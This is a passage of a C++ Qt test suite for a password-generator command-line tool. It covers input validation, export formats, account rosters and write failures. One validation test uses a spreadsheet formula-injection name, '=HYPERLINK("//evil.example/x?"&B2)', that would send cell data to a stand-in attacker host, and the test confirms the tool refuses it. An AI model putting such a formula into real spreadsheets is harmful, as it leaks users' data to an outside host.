#include "cli/commandline.h"
#include "cli/run.h"
#include "core/config.h"
#include "core/errorreport.h"
#include "core/eventpump.h"
#include "export/textfileexport.h"
#include "generator/passphrase.h"
#include "generator/randomsource.h"
#include "libreoffice.h"
#include "pdfslips.h"
#include "recorders.h"
#include "results/resultslist.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QSettings>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTemporaryFile>
#include <QTest>
#include <csignal>
#include <fcntl.h>
#include <map>
#include <random>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>

using namespace zentavo;
using namespace zentavo::test;

namespace {

// The same draws for the same seed, so two runs can be compared.
class SeededRandom : public RandomSource
{
public:
    explicit SeededRandom(unsigned seed) : m_engine(seed) {}
    quint32 uniform(quint32 n) override { return quint32(m_engine() % n); }

private:
    std::mt19937 m_engine;
};

struct Outcome
{
    int status;
    QByteArray output;
    QString error;
};

QByteArray readAll(int fd)
{
    QByteArray bytes;
    ::lseek(fd, 0, SEEK_SET);
    char block[65536];
    for (ssize_t n; (n = ::read(fd, block, sizeof block)) > 0;)
        bytes.append(block, n);
    return bytes;
}

// Runs the command as a function, its output and messages caught in files.
Outcome run(const QStringList &arguments, RandomSource &random, int output = -1)
{
    QTemporaryFile out, err;
    if (!out.open() || !err.open())
        qFatal("no temporary files");
    const int status =
        cli::runCommandLine(arguments, random, {output >= 0 ? output : int(out.handle()), int(err.handle())});
    return {status, readAll(int(out.handle())), QString::fromUtf8(readAll(int(err.handle())))};
}

Outcome run(const QStringList &arguments, unsigned seed = 1, int output = -1)
{
    SeededRandom random(seed);
    return run(arguments, random, output);
}

QStringList lines(const QByteArray &bytes, const char *end = "\n")
{
    QStringList result = QString::fromUtf8(bytes).split(QLatin1String(end));
    if (!result.isEmpty() && result.last().isEmpty())
        result.removeLast();
    return result;
}

// RFC 4180 records, for reading the CSV back.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"')
                field += text[++i];
            else if (c == u'"')
                quoted = false;
            else
                field += c;
        } else if (c == u'"' && field.isEmpty()) {
            quoted = true;
        } else if (c == u',') {
            record << std::exchange(field, QString());
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            record << std::exchange(field, QString());
            records << std::exchange(record, QStringList());
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

class FileSizeLimit
{
public:
    explicit FileSizeLimit(rlim_t bytes)
    {
        getrlimit(RLIMIT_FSIZE, &m_saved);
        rlimit limit = m_saved;
        limit.rlim_cur = bytes;
        setrlimit(RLIMIT_FSIZE, &limit);
    }
    ~FileSizeLimit() { setrlimit(RLIMIT_FSIZE, &m_saved); }

private:
    rlimit m_saved{};
};

} // namespace

const char kLower[] = "abcdefghijklmnopqrstuvwxyz";

class TestCli : public QObject
{
    Q_OBJECT

    QTemporaryDir folder;
    QTemporaryDir settingsFolder;
    QTemporaryDir namesFolder;

    // A file of account names, kept apart from the output folder.
    QString namesFile(const QString &name, const QByteArray &text)
    {
        QFile file(namesFolder.filePath(name));
        if (!file.open(QIODevice::WriteOnly) || file.write(text) != text.size())
            qFatal("names not written");
        return file.fileName();
    }

private slots:
    void initTestCase()
    {
        // As the program itself does: failed writes are seen as such.
        std::signal(SIGPIPE, SIG_IGN);
        std::signal(SIGXFSZ, SIG_IGN);
        // The user's settings are never touched, however the test is started.
        qputenv("XDG_CONFIG_HOME", QFile::encodeName(settingsFolder.path()));
    }

    void init()
    {
        const QDir dir(folder.path());
        for (const QString &name : dir.entryList(QDir::Files | QDir::Hidden))
            QFile::remove(dir.filePath(name));
    }

    void badInputIsOneMessageAndNothingWritten_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("message");
        QTest::addRow("count zero") << QStringList{"-n", "0"} << "the count must be a whole number";
        QTest::addRow("count with a fraction")
            << QStringList{"--count=2.5"} << "the count must be a whole number";
        QTest::addRow("count too large") << QStringList{"-n", "2147483648"} << "from 1 to 2147483647";
        QTest::addRow("count not a number") << QStringList{"-n", "ten"} << "not \"ten\"";
        QTest::addRow("length zero") << QStringList{"-l0"} << "the length must be a whole number";
        QTest::addRow("length too large") << QStringList{"--length", "32768"} << "from 1 to 32767";
        QTest::addRow("length below the groups")
            << QStringList{"-l", "3", "--chars", "!"}
            << "Length must be greater or equal to the number of checked items.";
        QTest::addRow("no group") << QStringList{"--no-lower", "--no-upper", "--no-digits"}
                                  << "no characters to draw from";
        QTest::addRow("only look-alikes")
            << QStringList{"--no-lower", "--no-upper", "--chars", "lI|", "--no-similar", "--no-digits"}
            << "every chosen character is a look-alike";
        QTest::addRow("only vowels") << QStringList{"--no-lower", "--no-upper", "--no-digits",
                                                    "--chars",    "aEiOu",      "--no-vowels"}
                                     << "every chosen character is a vowel";
        QTest::addRow("unknown option") << QStringList{"--colour"} << "unknown option \"--colour\"";
        QTest::addRow("value missing") << QStringList{"-n"} << "-n needs a value";
        QTest::addRow("unknown format") << QStringList{"--format", "pdf"} << "unknown format \"pdf\"";
        QTest::addRow("more rows than a sheet")
            << QStringList{"--format", "xlsx", "-n", "1048576"} << "a workbook sheet holds at most 1048575";
        QTest::addRow("three plain arguments") << QStringList{"8", "2", "1"} << "unexpected argument \"1\"";
        const QString good = namesFile("good", "anna\nbert\n");
        QTest::addRow("count with accounts") << QStringList{"--accounts", good, "12", "3"} << "a count with";
        QTest::addRow("hash without accounts") << QStringList{"--crypt"} << "give it the names";
        QTest::addRow("unknown hash") << QStringList{"--accounts", good, "--crypt=md5"} << "unknown hash";
        QTest::addRow("colon in name:password lines")
            << QStringList{"--accounts", good, "--chars", "a:"} << "would break the name:password lines";
        QTest::addRow("name with a colon")
            << QStringList{"--accounts", namesFile("colon", "# pupils\n\nanna\nb:rt\n")}
            << "line 4: \"b:rt\"";
        QTest::addRow("name with a control character")
            << QStringList{"--accounts", namesFile("control", "anna\nbe\x1brt\n")} << "line 2: the name";
        QTest::addRow("names not UTF-8")
            << QStringList{"--accounts", namesFile("latin1", "cl\xe1ra\n")} << "line 1: not UTF-8";
        QTest::addRow("no names") << QStringList{"--accounts", namesFile("empty", "# none\n\n")}
                                  << "holds no account name";
        QTest::addRow("a formula for a spreadsheet")
            << QStringList{"--accounts", namesFile("formula", "anna\n=HYPERLINK(\"//evil.example/x?\"&B2)\n"),
                           "--format", "csv"}
            << "line 2: \"=HYPERLINK(\"//evil.example/x?\"&B2)\" starts with =";
        QTest::addRow("a name twice") << QStringList{"--accounts", namesFile("twice", "anna\nbert\nanna\n")}
                                      << "line 3: \"anna\" is given twice, first on line 1";
        QTest::addRow("a right-to-left override")
            << QStringList{"--accounts", namesFile("rlo", "\xe2\x80\xae"
                                                          "anna\n")}
            << "line 1: the name holds an invisible format character (U+202E)";
        QTest::addRow("a line separator") << QStringList{"--accounts", namesFile("ls", "an\xe2\x80\xa8na\n")}
                                          << "line 1: the name holds a line or paragraph separator";
        QTest::addRow("a noncharacter")
            << QStringList{"--accounts", namesFile("nonchar", "anna\xef\xbf\xbf\n")}
            << "line 1: the name holds a noncharacter (U+FFFF)";
        QTest::addRow("a blank at the end") << QStringList{"--accounts", namesFile("nbsp", "anna\xc2\xa0\n")}
                                            << "line 1: the name starts or ends with a blank";
        const QString words = namesFile("words", "sun\nsunset\nmoon\n");
        QTest::addRow("a word twice")
            << QStringList{"--words", "2", "--wordlist", namesFile("repeated", "a\nb\n a\n")}
            << "repeated, line 3: \"a\" repeats the word of line 1";
        QTest::addRow("a word begins another")
            << QStringList{"--words", "2", "--wordlist", words, "--separator="}
            << "the word \"sun\" (line 1) begins the word \"sunset\" (line 2)";
        QTest::addRow("a digit and one word")
            << QStringList{"--words", "1", "--digit"} << "--digit goes between";
        QTest::addRow("a line break between words")
            << QStringList{"--words", "2", "--separator", "\n"} << "the separator holds a control character";
        QTest::addRow("no words") << QStringList{"--words", "0"} << "the number of words must be";
        QTest::addRow("a rule with passphrases")
            << QStringList{"--words", "3", "--no-repeat"} << "not passphrases";
        QTest::addRow("a separator without words") << QStringList{"--separator", "."} << "give --words N";
        QTest::addRow("nothing to start with")
            << QStringList{"--no-digits", "--start-with", "digit"} << "no character to start with";
        QTest::addRow("one character, no repeats")
            << QStringList{"--no-lower", "--no-upper", "--no-digits", "--chars", "x", "--no-repeat"}
            << "nothing left to draw";
        QTest::addRow("all excluded") << QStringList{"--no-upper", "--no-digits", "--exclude", kLower}
                                      << "every chosen character is left out by --exclude";
        // Rosters: each refusal names the file's line.
        const auto roster = [&](const char *name, const QByteArray &text, const QStringList &more = {}) {
            return QStringList{"--roster", namesFile(name, text)} + more;
        };
        const QByteArray google = "\xEF\xBB\xBF"
                                  "First Name [Required],Email Address [Required],Password [Required]\r\n";
        const QByteArray entra = "version:v1.0\nName [displayName] Required,User name [userPrincipalName] "
                                 "Required,Initial password [passwordProfile] Required\n";
        const QStringList toGoogle{"--roster-for", "google"}, toEntra{"--roster-for", "entra"};
        QByteArray manyRows = google;
        for (int i = 0; i <= 150000; ++i)
            manyRows += "P,p" + QByteArray::number(i) + "@example.org,\r\n";
        QTest::addRow("roster: a quote never closed")
            << roster("quote.csv", "name\nanna\n\"bert\n") << "quote.csv line 3: the quote that opens a cell";
        QTest::addRow("roster: more cells than the header")
            << roster("wide.csv", "name,x\r\nanna,1\r\nbert,2,3\r\n") << "line 3: the row has 3 cells";
        QTest::addRow("roster: an empty name")
            << roster("empty.csv", "name;x\nanna;1\n;2\n") << "line 3: the name (column \"name\") is empty";
        QTest::addRow("roster: a name twice")
            << roster("twice.csv", "name\nanna\nanna\n") << "line 3: \"anna\" is";
        QTest::addRow("roster: a password there") << roster("filled.csv", "name,Password\nanna,old\n")
                                                  << "line 2: the column \"Password\" already holds a value";
        QTest::addRow("roster: the platform's column missing")
            << roster("moodle.csv", "username,firstname\nanna,A\n", {"--roster-for", "moodle"})
            << "line 1: the header has no column \"password\", which Moodle's template has";
        QTest::addRow("roster: hashes in the passwords' column")
            << roster("same.csv", "name,p\na,\n", {"--password-column=p", "--crypt", "--hash-column=p"})
            << "line 1: the passwords and their hashes cannot share the column \"p\"";
        QTest::addRow("roster: not UTF-8") << roster("latin1.csv", "name\ncl\xe1ra\n") << "line 2: not UTF-8";
        QTest::addRow("roster: shorter than Google takes")
            << roster("short.csv", google + "Ann,ann@example.org,\r\n", toGoogle + QStringList{"-l", "7"})
            << "line 2: a password of 7 characters is shorter than the 8 that Google Workspace takes";
        QTest::addRow("roster: Google without a byte order mark")
            << roster("nobom.csv", google.mid(3) + "Cl\xC3\xA1ra,clara@example.org,\r\n", toGoogle)
            << "line 2: Google Workspace reads text outside ASCII only from UTF-8 with a byte order mark";
        QTest::addRow("roster: more rows than Google takes")
            << roster("many.csv", manyRows, toGoogle) << "line 150002: Google Workspace takes at most 150000";
        QTest::addRow("roster: Entra's first line missing")
            << roster("entra1.csv", entra.mid(13), toEntra)
            << "line 1: Microsoft Entra's template starts with";
        QTest::addRow("roster: a stray blank for Entra")
            << roster("blank.csv", entra + "Anna,anna@example.org ,\n", toEntra)
            << "line 3: \"anna@example.org \" starts or ends with a blank";
        QTest::addRow("roster: passphrases of two kinds for Entra")
            << roster("kinds.csv", entra + "Anna,anna@example.org,\n", toEntra + QStringList{"--words", "4"})
            << "line 3: Microsoft Entra takes a password with characters of 3 of the four kinds";
        QTest::addRow("roster: a template without a roster") << toGoogle << "--roster-for goes with --roster";
        QTest::addRow("roster: a format") << roster("f.csv", "name\na\n", {"--format", "csv"})
                                          << "a roster is written back as the CSV it is";
        QTest::addRow("roster: a count")
            << roster("n.csv", "name\na\n", {"-n", "3"}) << "a count with --roster";
        const QStringList ldif{"--accounts", good, "--format=ldif", "--crypt"};
        QTest::addRow("ldif without hashes")
            << ldif.mid(0, 3) + QStringList{"--base-dn=dc=x"} << "give --format ldif --crypt";
        QTest::addRow("ldif without a base") << ldif << "needs --base-dn";
        QTest::addRow("a base that is no DN")
            << ldif + QStringList{"--base-dn=ou=a,,dc=x"} << "\"ou=a,,dc=x\" is no distinguished name";
        QTest::addRow("one uid in two cases") << QStringList{"--accounts", namesFile("cases", "Anna\nanna\n"),
                                                             "--format=ldif", "--crypt", "--base-dn=dc=x"}
                                              << "line 2: \"anna\" is given twice";
        QTest::addRow("newusers without names") << QStringList{"--format=newusers"} << "give --accounts";
        QTest::addRow("newusers with hashes")
            << QStringList{"--accounts", good, "--format=newusers", "--crypt"} << "leave out --crypt";
        for (const char *name :
             {"-anna", "an na", "a,b", "1234", "..", "a/b", "abcdefghijabcdefghijabcdefghijabc"})
            QTest::addRow("login name %s", name) << QStringList{"--format=newusers", "--accounts",
                                                                namesFile(QString::number(qHash(name)), name)}
                                                 << QStringLiteral("line 1: \"%1\"").arg(name);
        QTest::addRow("a name too long") << QStringList{"--accounts", namesFile("long", QByteArray(257, 'a'))}
                                         << "line 1: the name is longer than 256 bytes";
        const QStringList slips{"--format", "slips"};
        QTest::addRow("slips of no names")
            << slips + QStringList{"--accounts", namesFile("empty", "")} << "holds no account name";
        QTest::addRow("an unknown paper") << slips + QStringList{"--paper", "A5"} << "unknown paper \"A5\"";
        QTest::addRow("a note too long")
            << slips + QStringList{"--slip-note", QString(400, u'w')} << "the note does not fit on a slip";
        QTest::addRow("a password too long for a slip")
            << slips + QStringList{"-l", "300", "--slip-note", "x"}
            << "300 characters does not fit on a slip";
        QTest::addRow("a QR code without slips") << QStringList{"--qr"} << "--qr shapes slips";
        QTest::addRow("a hash on a slip")
            << slips + QStringList{"--accounts", good, "--crypt"} << "not for slips";
        QTest::addRow("a name no font shows") // a private use character of the last plane
            << slips + QStringList{"--accounts", namesFile("private", "anna\n\xf4\x8f\xbf\xbd\n")}
            << "no installed font shows";
    }
    void badInputIsOneMessageAndNothingWritten()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, message);
        for (const bool toFile : {false, true}) {
            const QString path = folder.filePath(QStringLiteral("out"));
            const Outcome outcome = run(toFile ? QStringList{"-o", path} + arguments : arguments);
            QCOMPARE(outcome.status, 2);
            QVERIFY2(outcome.error.contains(message), qPrintable(outcome.error));
            QCOMPARE(outcome.error.count(u'\n'), 1);
            QCOMPARE(outcome.output, QByteArray());
            QCOMPARE(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden), QStringList());
        }
    }

    // The text format is the window's text file of the same rows, byte for
    // byte; the CSV holds every password unchanged.
    void everyFormatHoldsThePasswords_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addRow("defaults") << QStringList{};
        QTest::addRow("more rows than an output block holds") << QStringList{"-n", "5000", "-l", "20"};
        QTest::addRow("line numbers, a hundred rows")
            << QStringList{"--line-numbers", "-n", "100", "-l", "7"};
        QTest::addRow("quotes, commas, formulas and spaces")
            << QStringList{"--chars", "=\",;", "--space", "--line-numbers", "-n", "30"};
        QTest::addRow("characters outside the basic plane") << QStringList{
            "--no-at-least", "--chars", QString::fromUtf8("\xF0\x9D\x84\x9E\xC3\xA9"), "-n", "40", "-l", "3",
            "--line-numbers"};
        QTest::addRow("first-run options from the window")
            << QStringList{"--no-vowels", "--space", "--last-digit", "--line-numbers", "-l", "6", "-n", "12"};
        QTest::addRow("passphrases") << QStringList{"--words", "4", "--digit", "--line-numbers", "-n", "20"};
    }
    void everyFormatHoldsThePasswords()
    {
        QFETCH(QStringList, arguments);
        const bool lineNumbers = arguments.contains(QStringLiteral("--line-numbers"));
        const Outcome plain = run(arguments, 7);
        QCOMPARE(plain.status, 0);
        QList<std::pair<qint32, QString>> rows;
        for (const QString &line : lines(plain.output)) {
            if (lineNumbers)
                rows.append({line.section(u'\t', 0, 0).toInt(), line.section(u'\t', 1)});
            else
                rows.append({0, line});
        }
        QVERIFY(!rows.isEmpty());

        ResultsList list;
        if (lineNumbers)
            list.addColumn(QStringLiteral("Line"));
        list.addColumn(QStringLiteral("Result(s)"));
        for (const auto &[number, password] : rows)
            list.appendRow(number, password);
        RecordingPrompter prompter;
        ErrorReport report(prompter, QStringLiteral("help@example.org"));
        EventPump pump;
        const QString windowFile = folder.filePath(QStringLiteral("window.txt"));
        SaveListviewProperlySpaced(list, windowFile, nullptr, pump, report);
        QFile saved(windowFile);
        QVERIFY(saved.open(QIODevice::ReadOnly));
        const Outcome text = run(arguments + QStringList{"--format", "text"}, 7);
        QCOMPARE(text.status, 0);
        QCOMPARE(text.output, saved.readAll());

        const Outcome csv = run(arguments + QStringList{"--format", "csv"}, 7);
        QCOMPARE(csv.status, 0);
        QList<QStringList> expected{lineNumbers ? QStringList{"Line", "Result(s)"}
                                                : QStringList{"Result(s)"}};
        for (const auto &[number, password] : rows)
            expected << (lineNumbers ? QStringList{QString::number(number), password}
                                     : QStringList{password});
        QCOMPARE(parseCsv(QString::fromUtf8(csv.output)), expected);
    }

    void aWorkbookReadsBackInLibreOffice()
    {
        const QStringList arguments{"--chars", "=+-@", "--line-numbers", "-n", "25", "-l", "5", "--space"};
        const Outcome plain = run(arguments, 3);
        QList<QStringList> expected{{"Results", ""}}; // the sheet is two columns wide
        for (const QString &line : lines(plain.output))
            expected << line.split(u'\t');
        const QString path = folder.filePath(QStringLiteral("passwords.xlsx"));
        const Outcome workbook = run(arguments + QStringList{"--format", "xlsx", "-o", path}, 3);
        QCOMPARE(workbook.status, 0);
        struct stat status
        {
        };
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &status), 0);
        QCOMPARE(status.st_mode & 07777, mode_t(0600));
        QTemporaryDir profile;
        QCOMPARE(readWorkbook(path, profile.path()), expected);
        QCOMPARE(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden), QStringList{"passwords.xlsx"});
    }

    // Slips read back by the readers people have: every label and password
    // in order, the fonts embedded, ten slips a page, and each QR code.
    void slipsReadBack_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QStringList>("slipArguments");
        QTest::addColumn<QString>("pageSize");
        QByteArray names =
            "J\xc3\xbcrgen\n\xce\x96\xcf\x89\xce\xae\n\xd0\x90\xd0\xbb\xd0\xb8\xd0\xbd\xd0\xb0\n";
        for (int i = 4; i <= 25; ++i)
            names += "pupil" + QByteArray::number(i) + '\n';
        QTest::addRow("25 accounts, a note, A4")
            << QStringList{"--accounts", namesFile("class", names), "--space", "--chars", "O0Il1|"}
            << QStringList{"--paper", "a4", "--slip-note",
                           "Sign in at https://school.example\nBring this slip"}
            << "595.276 x 841.89";
        QTest::addRow("line numbers, QR codes, Letter")
            << QStringList{"-n", "25", "--space", "--chars", "O0Il1|"}
            << QStringList{"--qr", "--paper", "letter"} << "612 x 792";
        QTest::addRow("passphrases whole, not in groups")
            << QStringList{"-n", "25", "--words", "7", "--separator", " "} << QStringList{}
            << "595.276 x 841.89";
    }
    void slipsReadBack()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QStringList, slipArguments);
        QFETCH(QString, pageSize);
        const QString pdf = folder.filePath(QStringLiteral("slips.pdf"));
        QCOMPARE(run(arguments + slipArguments + QStringList{"--format", "slips", "-o", pdf}, 4).status, 0);
        QList<QStringList> expected;
        for (const QString &line : lines(run(arguments, 4).output))
            expected << QStringList{line.section(u':', 0, 0), line.section(u':', 1)};
        if (!arguments.contains(QStringLiteral("--accounts"))) {
            for (qsizetype i = 0; i < expected.size(); ++i)
                expected[i] = QStringList{QString::number(i + 1), expected[i][0]};
        }
        QVERIFY(
            std::any_of(expected.begin(), expected.end(), [](auto &slip) { return slip[1].contains(u' '); }));
        QCOMPARE(int(QFile::permissions(pdf)) & 0xF0FF, int(QFile::ReadOwner | QFile::WriteOwner)); // 0600

        const bool qr = slipArguments.contains(QStringLiteral("--qr"));
        const qsizetype note = slipArguments.indexOf(QStringLiteral("--slip-note"));
        const SlipsRead read = readSlips(pdf, note < 0 ? QString() : slipArguments[note + 1], qr);
        QCOMPARE(read.slips, expected);
        QCOMPARE(read.pages, 3);
        QCOMPARE(read.pageSize, pageSize);
        QVERIFY(read.fontsEmbedded);
        QStringList passwords;
        for (const QStringList &slip : std::as_const(expected))
            passwords << slip[1];
        passwords.sort();
        QCOMPARE(read.qrCodes, qr ? passwords : QStringList());
    }

    void aWorkbookIsNoTextForATerminal()
    {
        const int terminal = posix_openpt(O_RDWR | O_NOCTTY);
        if (terminal < 0)
            QSKIP("no pseudo-terminal here");
        const Outcome outcome = run({"--format", "xlsx"}, 1, terminal);
        ::close(terminal);
        QCOMPARE(outcome.status, 2);
        QVERIFY(outcome.error.contains(QStringLiteral("terminal")));
    }

    void aFailedWriteNamesItsCauseAndLeavesNoFile_data()
    {
        QTest::addColumn<QString>("target"); // "full", "pipe", "limit", "folder"
        QTest::addColumn<QString>("cause");
        QTest::addRow("full device") << "full"
                                     << "No space left on device";
        QTest::addRow("reader gone") << "pipe"
                                     << "";
        QTest::addRow("file size limit") << "limit"
                                         << "File too large";
        QTest::addRow("no such folder") << "folder"
                                        << "No such file or directory";
        QTest::addRow("a FIFO in its place") << "fifo"
                                             << "fifo was not written: it is not a regular file";
        QTest::addRow("a folder named") << "dir"
                                        << "/ could not be created: Is a directory";
        QTest::addRow("stopped by SIGTERM") << "signal"
                                            << "";
        QTest::addRow("slips, file size limit") << "slips"
                                                << "File too large";
        QTest::addRow("workbook for standard output, size limit")
            << "xlsx"
            << "The workbook for standard output could not keep its rows in the temporary folder";
    }
    void aFailedWriteNamesItsCauseAndLeavesNoFile()
    {
        QFETCH(QString, target);
        QFETCH(QString, cause);
        QStringList arguments{"-n", "200000", "--format", "text"};
        Outcome outcome;
        if (target == QLatin1String("full")) {
            const int full = ::open("/dev/full", O_WRONLY);
            QVERIFY(full >= 0);
            outcome = run(arguments, 1, full);
            ::close(full);
        } else if (target == QLatin1String("pipe")) {
            int ends[2];
            QCOMPARE(::pipe(ends), 0);
            ::close(ends[0]);
            outcome = run(arguments, 1, ends[1]);
            ::close(ends[1]);
        } else if (target == QLatin1String("limit")) {
            FileSizeLimit limit(100000);
            outcome = run(arguments + QStringList{"-o", folder.filePath(QStringLiteral("big.txt"))});
        } else if (target == QLatin1String("slips")) { // the failure passes through cairo
            FileSizeLimit limit(100000);
            outcome =
                run({"-n", "5000", "--format", "slips", "-o", folder.filePath(QStringLiteral("slips.pdf"))});
        } else if (target == QLatin1String("xlsx")) {
            FileSizeLimit limit(100000);
            outcome = run({"-n", "200000", "--format", "xlsx"});
        } else if (target == QLatin1String("fifo")) {
            QCOMPARE(::mkfifo(QFile::encodeName(folder.filePath(QStringLiteral("fifo"))).constData(), 0600),
                     0);
            outcome = run(arguments + QStringList{"-o", folder.filePath(QStringLiteral("fifo"))});
        } else if (target == QLatin1String("dir")) {
            outcome = run(arguments + QStringList{"-o", folder.path() + QLatin1Char('/')});
        } else if (target == QLatin1String("signal")) {
            QProcess cli;
            cli.start(QStringLiteral(ZENTAVO_CLI), {"-n", "2000000000", "-o", folder.filePath("keep.txt")});
            QVERIFY(cli.waitForStarted());
            QTest::qWait(500); // well into the writing, though it holds at any time
            cli.terminate();
            QVERIFY(cli.waitForFinished(60000) && cli.exitStatus() == QProcess::CrashExit);
            outcome.status = 1;
        } else {
            outcome = run(arguments + QStringList{"-o", folder.filePath(QStringLiteral("gone/out.txt"))});
        }
        QCOMPARE(outcome.status, 1);
        if (cause.isEmpty()) {
            QCOMPARE(outcome.error, QString());
        } else {
            QVERIFY2(outcome.error.contains(cause), qPrintable(outcome.error));
            QCOMPARE(outcome.error.count(u'\n'), 1);
        }
        QCOMPARE(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden), QStringList());
    }

    // The window's stored options, read and never written; the command line
    // still has the last word.
    void startsFromTheWindowsStoredOptions_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("status");
        QTest::addColumn<int>("rows");
        QTest::addColumn<bool>("damaged");
        QTest::addRow("as stored") << QStringList{"--from-settings"} << 0 << 4 << false;
        QTest::addRow("count given too") << QStringList{"--from-settings", "-n", "2"} << 0 << 2 << false;
        QTest::addRow("stored length refused")
            << QStringList{"--from-settings", "--at-least", "--lower", "--upper"} << 2 << 0 << false;
        // The window would set a damaged file aside; borrowing its options
        // reads what it can and leaves the file as it is.
        QTest::addRow("damaged file") << QStringList{"--from-settings"} << 0 << 4 << true;
    }
    void startsFromTheWindowsStoredOptions()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, status);
        QFETCH(int, rows);
        QFETCH(bool, damaged);
        const QString file = settingsFolder.filePath(QStringLiteral("Veltrano/Zentavo.ini"));
        {
            QSettings settings(file, QSettings::IniFormat);
            const std::pair<const char *, const char *> stored[] = {{"Alpha Lower", "0"},
                                                                    {"Alpha Upper", "0"},
                                                                    {"Numeric", "0"},
                                                                    {"Specified", "1"},
                                                                    {"Specified Character", "xy"},
                                                                    {"Number Of Passwords", "4"},
                                                                    {"Password Length", "1"},
                                                                    {"Check8", "0"},
                                                                    {"Check9", "1"},
                                                                    {"Check1", "0"},
                                                                    {"Check3", "0"},
                                                                    {"Check4", "0"}};
            for (const auto &[key, value] : stored)
                settings.setValue(QStringLiteral("Zentavo/") + QLatin1String(key), QLatin1String(value));
        }
        if (damaged) {
            QFile append(file);
            QVERIFY(append.open(QIODevice::Append));
            append.write(QByteArray(16, '\0'));
        }
        QFile before(file);
        QVERIFY(before.open(QIODevice::ReadOnly));
        const QByteArray bytes = before.readAll();
        const QDateTime modified = QFileInfo(file).lastModified();

        const Outcome outcome = run(arguments);
        QCOMPARE(outcome.status, status);
        const QStringList made = lines(outcome.output);
        QCOMPARE(made.size(), rows);
        for (int i = 0; i < made.size(); ++i)
            QVERIFY2(QRegularExpression(QStringLiteral("^%1\t[xy]$").arg(i + 1)).match(made[i]).hasMatch(),
                     qPrintable(made[i]));
        QFile after(file);
        QVERIFY(after.open(QIODevice::ReadOnly));
        QCOMPARE(after.readAll(), bytes);
        QCOMPARE(QFileInfo(file).lastModified(), modified);
        QVERIFY(!QFileInfo::exists(file + QStringLiteral(".damaged")));
    }

    // Anything but a readable file in the store's place: one line says why,
    // and the run goes on from the first-run options. Root reads any file,
    // so the unreadable one is tried by a process of another user.
    void saysOnceWhyStoredOptionsWereNotUsed_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("cause");
        QTest::addRow("FIFO") << "fifo"
                              << "it is a named pipe (FIFO), not a file";
        QTest::addRow("folder") << "folder"
                                << "it is a folder, not a file";
        QTest::addRow("link loop") << "loop"
                                   << "Too many levels of symbolic links";
        QTest::addRow("link to /dev/zero") << "zero"
                                           << "it is a device, not a file";
        QTest::addRow("unreadable") << "unreadable"
                                    << "Permission denied";
    }
    void saysOnceWhyStoredOptionsWereNotUsed()
    {
        QFETCH(QString, kind);
        QFETCH(QString, cause);
        const QString file = settingsFolder.filePath(QStringLiteral("Veltrano/Zentavo.ini"));
        const QByteArray name = QFile::encodeName(file);
        QVERIFY(QDir().mkpath(QFileInfo(file).path()));
        QFile::remove(file);
        const auto cleanUp = qScopeGuard([&] {
            if (::unlink(name.constData()) != 0)
                ::rmdir(name.constData());
        });
        if (kind == QLatin1String("fifo"))
            QCOMPARE(::mkfifo(name.constData(), 0600), 0);
        else if (kind == QLatin1String("folder"))
            QVERIFY(QDir().mkdir(file));
        else if (kind == QLatin1String("loop"))
            QCOMPARE(::symlink(name.constData(), name.constData()), 0);
        else if (kind == QLatin1String("zero"))
            QCOMPARE(::symlink("/dev/zero", name.constData()), 0);
        else
            QVERIFY(QFile(file).open(QIODevice::WriteOnly) && ::chmod(name.constData(), 0) == 0);

        Outcome outcome;
        if (kind == QLatin1String("unreadable") && ::geteuid() == 0) {
            // Another user may pass through the folders, not read the file.
            for (const QString &path : {settingsFolder.path(), QFileInfo(file).path()})
                QCOMPARE(::chmod(QFile::encodeName(path).constData(), 0711), 0);
            int ends[2];
            QCOMPARE(::pipe(ends), 0);
            const pid_t child = ::fork();
            if (child == 0) {
                ::close(ends[0]);
                if (::setgid(65534) != 0 || ::setuid(65534) != 0) // nobody
                    ::_exit(99);
                const Outcome inChild = run({"-n", "3", "--from-settings"});
                const QByteArray error = inChild.error.toUtf8();
                const bool told =
                    ::write(ends[1], error.constData(), std::size_t(error.size())) == error.size();
                ::_exit(told ? inChild.status : 98);
            }
            ::close(ends[1]);
            outcome.error = QString::fromUtf8(readAll(ends[0]));
            ::close(ends[0]);
            int status = 0;
            QCOMPARE(::waitpid(child, &status, 0), child);
            outcome.status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
        } else {
            outcome = run({"-n", "3", "--from-settings"});
            QCOMPARE(lines(outcome.output).size(), 3);
        }
        QCOMPARE(outcome.status, 0);
        QCOMPARE(outcome.error.count(u'\n'), 1);
        QVERIFY2(outcome.error.contains(file) && outcome.error.contains(cause), qPrintable(outcome.error));
    }

    void answersWithoutGenerating_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("firstLine");
        QTest::addRow("first-run options")
            << QStringList{"--strength", "-l6", "--no-vowels", "--space", "--last-digit"}
            << "About 25 bits per password: poor";
        QTest::addRow("ten characters")
            << QStringList{"--strength", "-l", "10"} << "About 54 bits per password: weak";
        QTest::addRow("defaults") << QStringList{"--strength"} << "About 90 bits per password: good";
        QTest::addRow("twenty characters")
            << QStringList{"--strength", "-l", "20"} << "About 114 bits per password: excellent";
        QTest::addRow("version") << QStringList{"--version"} << "zentavo-cli " ZENTAVO_VERSION;
        QTest::addRow("version, short") << QStringList{"-V"} << "zentavo-cli " ZENTAVO_VERSION;
